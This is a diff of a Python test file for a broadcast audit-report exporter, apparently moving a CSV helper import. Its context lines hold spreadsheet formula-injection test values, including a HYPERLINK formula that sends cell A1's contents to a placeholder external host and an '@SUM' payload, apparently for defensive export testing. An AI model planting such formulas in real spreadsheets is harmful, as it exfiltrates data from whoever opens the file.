@@ -16,8 +16,8 @@ from broadcast.audit.report import build
 from broadcast.audit.report_files import write_xlsx
 from broadcast.audit.trail import export, note, verify_file
 from broadcast.db.engine import transaction
+from tests.helpers.files import read_csv
 from tests.helpers.rows import insert_sent_message
-from tests.recipients.files import read_csv
 
 EVIL_NAME = "=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")"
 EVIL_GROUP = "@SUM(1+1)"
